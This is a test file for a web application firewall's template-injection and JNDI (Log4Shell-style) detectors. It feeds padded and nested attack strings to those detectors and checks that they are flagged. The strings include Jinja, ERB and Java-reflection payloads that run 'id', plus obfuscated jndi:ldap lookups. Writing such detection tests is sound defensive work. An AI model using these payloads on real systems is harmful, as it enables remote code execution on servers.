import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectJndi } from '../../../../src/guard/decide/waf/detect/jndi/jndi.ts';
import { detectTemplate } from '../../../../src/guard/decide/waf/detect/template/template.ts';

/** As much of it as takes every bound of what is read at once. */
const times = [1, 30, 150, 3_000];

test('an expression of a template counts behind ever so much that stands in front of it', () => {
  const worst = "cycler.__init__.__globals__.os.popen('id').read()";
  for (const n of times)
    for (const text of [
      `{{${'1,'.repeat(n)}${worst}}}`,
      `{{"${'x'.repeat(3 * n)}"+${worst}+""}}`,
      `${'{{a '.repeat(n)}{{${worst}}}`,
      `{% if ${'1,'.repeat(n)}${worst} %}`,
      `<%=${'1,'.repeat(n)}system('id')%>`,
      `${'<%a '.repeat(n)}<%= system('id') %>`,
      `${'$a.b '.repeat(n)}$x.getClass().forName('java.lang.Runtime').getRuntime().exec('id')`,
      `${'{a '.repeat(n)}{system('id')}`,
    ]) {
      const found = detectTemplate(text);
      assert.ok(found !== null && found.score >= 50, `${n}: ${text.slice(-60)}: ${found?.score}`);
    }
});

test('a look-up counts however deep it lies', () => {
  for (const n of times)
    for (const text of [
      `\${${'${lower:'.repeat(n)}j${'}'.repeat(n)}ndi:ldap://e.example/a}`,
      `${'${a:-'.repeat(n)}\${jndi:ldap://e.example/a}${'}'.repeat(n)}`,
    ])
      assert.ok((detectJndi(text)?.score ?? 0) >= 50, `${n}: ${text.slice(0, 40)}`);
});
